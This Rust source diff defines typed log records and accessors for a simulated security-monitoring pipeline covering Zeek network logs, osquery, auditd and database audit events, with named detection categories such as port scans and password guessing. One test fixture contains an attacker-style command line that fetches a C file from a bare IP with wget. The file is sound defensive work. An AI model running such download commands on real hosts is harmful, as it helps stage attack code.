@@ -1,0 +1,354 @@
+//! Typed log records.
+//!
+//! The paper's pipeline consumes "raw logs of both legitimate user
+//! activities and attack activities": network flows from a Zeek cluster,
+//! system logs from rsyslog/osquery/ossec, and audit logs from auditd
+//! (§II-A). Each record type here mirrors one of those sources; the
+//! [`LogRecord`] enum is the unit that travels down the alert pipeline.
+
+use std::fmt;
+use std::net::Ipv4Addr;
+
+use serde::{Deserialize, Serialize};
+use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
+use simnet::time::{SimDuration, SimTime};
+use simnet::topology::HostId;
+
+/// Zeek `conn.log` entry.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ConnRecord {
+    pub ts: SimTime,
+    pub uid: FlowId,
+    pub orig_h: Ipv4Addr,
+    pub orig_p: u16,
+    pub resp_h: Ipv4Addr,
+    pub resp_p: u16,
+    pub proto: Proto,
+    pub service: Service,
+    pub duration: SimDuration,
+    pub orig_bytes: u64,
+    pub resp_bytes: u64,
+    pub conn_state: ConnState,
+    pub direction: Direction,
+}
+
+/// Zeek `http.log` entry.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct HttpRecord {
+    pub ts: SimTime,
+    pub uid: FlowId,
+    pub orig_h: Ipv4Addr,
+    pub resp_h: Ipv4Addr,
+    pub method: String,
+    pub host: String,
+    pub uri: String,
+    pub status: u16,
+    pub mime: String,
+    pub user_agent: String,
+}
+
+/// Zeek `ssh.log` entry.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct SshRecord {
+    pub ts: SimTime,
+    pub uid: FlowId,
+    pub orig_h: Ipv4Addr,
+    pub resp_h: Ipv4Addr,
+    pub user: String,
+    pub method: simnet::action::AuthMethod,
+    pub success: bool,
+    pub client_banner: String,
+    pub direction: Direction,
+}
+
+/// Built-in Zeek notice policies we model.
+#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
+pub enum NoticeKind {
+    /// One source probing many distinct destinations (`Scan::Address_Scan`).
+    AddressScan,
+    /// One source probing many ports on few hosts (`Scan::Port_Scan`).
+    PortScan,
+    /// Repeated SSH auth failures (`SSH::Password_Guessing`).
+    PasswordGuessing,
+    /// Download of an executable from a bare-IP HTTP host.
+    ExecutableFromRawIp,
+    /// Site-specific policy, by name (the paper: "new alerts ... being
+    /// improved and incorporated into Zeek policies").
+    Custom(String),
+}
+
+impl fmt::Display for NoticeKind {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            NoticeKind::AddressScan => write!(f, "Scan::Address_Scan"),
+            NoticeKind::PortScan => write!(f, "Scan::Port_Scan"),
+            NoticeKind::PasswordGuessing => write!(f, "SSH::Password_Guessing"),
+            NoticeKind::ExecutableFromRawIp => write!(f, "HTTP::Executable_From_Raw_IP"),
+            NoticeKind::Custom(name) => write!(f, "Site::{name}"),
+        }
+    }
+}
+
+/// Zeek `notice.log` entry. The paper's 25 M alert corpus is "collected in
+/// Zeek notice logs over 24 years".
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct NoticeRecord {
+    pub ts: SimTime,
+    pub note: NoticeKind,
+    pub msg: String,
+    pub src: Ipv4Addr,
+    pub dst: Option<Ipv4Addr>,
+    /// Sub-message / additional context.
+    pub sub: String,
+}
+
+/// osquery-like process execution event.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ProcessRecord {
+    pub ts: SimTime,
+    pub host: HostId,
+    pub hostname: String,
+    pub user: String,
+    pub pid: u32,
+    pub ppid: u32,
+    pub exe: String,
+    pub cmdline: String,
+}
+
+/// osquery/ossec-like file integrity event.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct FileRecord {
+    pub ts: SimTime,
+    pub host: HostId,
+    pub hostname: String,
+    pub user: String,
+    pub path: String,
+    pub op: simnet::action::FileOp,
+    pub process: String,
+}
+
+/// Host authentication event (sshd via rsyslog).
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct AuthRecord {
+    pub ts: SimTime,
+    pub host: HostId,
+    pub hostname: String,
+    pub user: String,
+    pub method: simnet::action::AuthMethod,
+    pub success: bool,
+    pub src_addr: Option<Ipv4Addr>,
+}
+
+/// auditd syscall record.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct AuditRecord {
+    pub ts: SimTime,
+    pub host: HostId,
+    pub hostname: String,
+    pub user: String,
+    pub syscall: String,
+    pub args: String,
+    pub exit_code: i32,
+}
+
+/// Database statement audit record (the honeypot PostgreSQL instance logs
+/// every statement, per §IV-A "commands issued by attackers must be closely
+/// monitored").
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct DbRecord {
+    pub ts: SimTime,
+    pub uid: FlowId,
+    pub orig_h: Ipv4Addr,
+    pub resp_h: Ipv4Addr,
+    pub host: Option<HostId>,
+    pub user: String,
+    pub command: simnet::action::DbCommandKind,
+    pub statement: String,
+}
+
+/// Which log stream a record belongs to.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+pub enum RecordKind {
+    Conn,
+    Http,
+    Ssh,
+    Notice,
+    Process,
+    File,
+    Auth,
+    Audit,
+    Db,
+}
+
+impl RecordKind {
+    /// Log-file stem, Zeek-style (`conn`, `http`, ...).
+    pub fn stem(self) -> &'static str {
+        match self {
+            RecordKind::Conn => "conn",
+            RecordKind::Http => "http",
+            RecordKind::Ssh => "ssh",
+            RecordKind::Notice => "notice",
+            RecordKind::Process => "process",
+            RecordKind::File => "file",
+            RecordKind::Auth => "auth",
+            RecordKind::Audit => "audit",
+            RecordKind::Db => "db",
+        }
+    }
+}
+
+/// Any log record flowing through the pipeline.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub enum LogRecord {
+    Conn(ConnRecord),
+    Http(HttpRecord),
+    Ssh(SshRecord),
+    Notice(NoticeRecord),
+    Process(ProcessRecord),
+    File(FileRecord),
+    Auth(AuthRecord),
+    Audit(AuditRecord),
+    Db(DbRecord),
+}
+
+impl LogRecord {
+    /// Record timestamp.
+    pub fn ts(&self) -> SimTime {
+        match self {
+            LogRecord::Conn(r) => r.ts,
+            LogRecord::Http(r) => r.ts,
+            LogRecord::Ssh(r) => r.ts,
+            LogRecord::Notice(r) => r.ts,
+            LogRecord::Process(r) => r.ts,
+            LogRecord::File(r) => r.ts,
+            LogRecord::Auth(r) => r.ts,
+            LogRecord::Audit(r) => r.ts,
+            LogRecord::Db(r) => r.ts,
+        }
+    }
+
+    /// The stream this record belongs to.
+    pub fn kind(&self) -> RecordKind {
+        match self {
+            LogRecord::Conn(_) => RecordKind::Conn,
+            LogRecord::Http(_) => RecordKind::Http,
+            LogRecord::Ssh(_) => RecordKind::Ssh,
+            LogRecord::Notice(_) => RecordKind::Notice,
+            LogRecord::Process(_) => RecordKind::Process,
+            LogRecord::File(_) => RecordKind::File,
+            LogRecord::Auth(_) => RecordKind::Auth,
+            LogRecord::Audit(_) => RecordKind::Audit,
+            LogRecord::Db(_) => RecordKind::Db,
+        }
+    }
+
+    /// Source (originating) network address, when the record has one.
+    pub fn src_addr(&self) -> Option<Ipv4Addr> {
+        match self {
+            LogRecord::Conn(r) => Some(r.orig_h),
+            LogRecord::Http(r) => Some(r.orig_h),
+            LogRecord::Ssh(r) => Some(r.orig_h),
+            LogRecord::Notice(r) => Some(r.src),
+            LogRecord::Auth(r) => r.src_addr,
+            LogRecord::Db(r) => Some(r.orig_h),
+            LogRecord::Process(_) | LogRecord::File(_) | LogRecord::Audit(_) => None,
+        }
+    }
+
+    /// Destination network address, when the record has one.
+    pub fn dst_addr(&self) -> Option<Ipv4Addr> {
+        match self {
+            LogRecord::Conn(r) => Some(r.resp_h),
+            LogRecord::Http(r) => Some(r.resp_h),
+            LogRecord::Ssh(r) => Some(r.resp_h),
+            LogRecord::Notice(r) => r.dst,
+            LogRecord::Db(r) => Some(r.resp_h),
+            _ => None,
+        }
+    }
+
+    /// The host the record was produced on, for host-based records.
+    pub fn host(&self) -> Option<HostId> {
+        match self {
+            LogRecord::Process(r) => Some(r.host),
+            LogRecord::File(r) => Some(r.host),
+            LogRecord::Auth(r) => Some(r.host),
+            LogRecord::Audit(r) => Some(r.host),
+            LogRecord::Db(r) => r.host,
+            _ => None,
+        }
+    }
+
+    /// The user account associated with the record, if any. This is the key
+    /// the threat model (§III-B) groups attacks by.
+    pub fn user(&self) -> Option<&str> {
+        match self {
+            LogRecord::Ssh(r) => Some(&r.user),
+            LogRecord::Process(r) => Some(&r.user),
+            LogRecord::File(r) => Some(&r.user),
+            LogRecord::Auth(r) => Some(&r.user),
+            LogRecord::Audit(r) => Some(&r.user),
+            LogRecord::Db(r) => Some(&r.user),
+            _ => None,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use simnet::flow::FlowId;
+
+    fn conn() -> LogRecord {
+        LogRecord::Conn(ConnRecord {
+            ts: SimTime::from_secs(10),
+            uid: FlowId(1),
+            orig_h: "103.102.1.1".parse().unwrap(),
+            orig_p: 40_000,
+            resp_h: "141.142.2.1".parse().unwrap(),
+            resp_p: 22,
+            proto: Proto::Tcp,
+            service: Service::Ssh,
+            duration: SimDuration::ZERO,
+            orig_bytes: 0,
+            resp_bytes: 0,
+            conn_state: ConnState::S0,
+            direction: Direction::Inbound,
+        })
+    }
+
+    #[test]
+    fn accessors() {
+        let r = conn();
+        assert_eq!(r.ts(), SimTime::from_secs(10));
+        assert_eq!(r.kind(), RecordKind::Conn);
+        assert_eq!(r.src_addr(), Some("103.102.1.1".parse().unwrap()));
+        assert_eq!(r.dst_addr(), Some("141.142.2.1".parse().unwrap()));
+        assert!(r.host().is_none());
+        assert!(r.user().is_none());
+    }
+
+    #[test]
+    fn host_record_user_extraction() {
+        let r = LogRecord::Process(ProcessRecord {
+            ts: SimTime::from_secs(1),
+            host: HostId(2),
+            hostname: "cn01".into(),
+            user: "alice".into(),
+            pid: 100,
+            ppid: 1,
+            exe: "/usr/bin/wget".into(),
+            cmdline: "wget http://64.215.1.1/abs.c".into(),
+        });
+        assert_eq!(r.user(), Some("alice"));
+        assert_eq!(r.host(), Some(HostId(2)));
+        assert_eq!(r.kind().stem(), "process");
+    }
+
+    #[test]
+    fn notice_kind_display_matches_zeek_convention() {
+        assert_eq!(NoticeKind::AddressScan.to_string(), "Scan::Address_Scan");
+        assert_eq!(NoticeKind::PasswordGuessing.to_string(), "SSH::Password_Guessing");
+        assert_eq!(NoticeKind::Custom("Ransomware_Lateral".into()).to_string(), "Site::Ransomware_Lateral");
+    }
+}
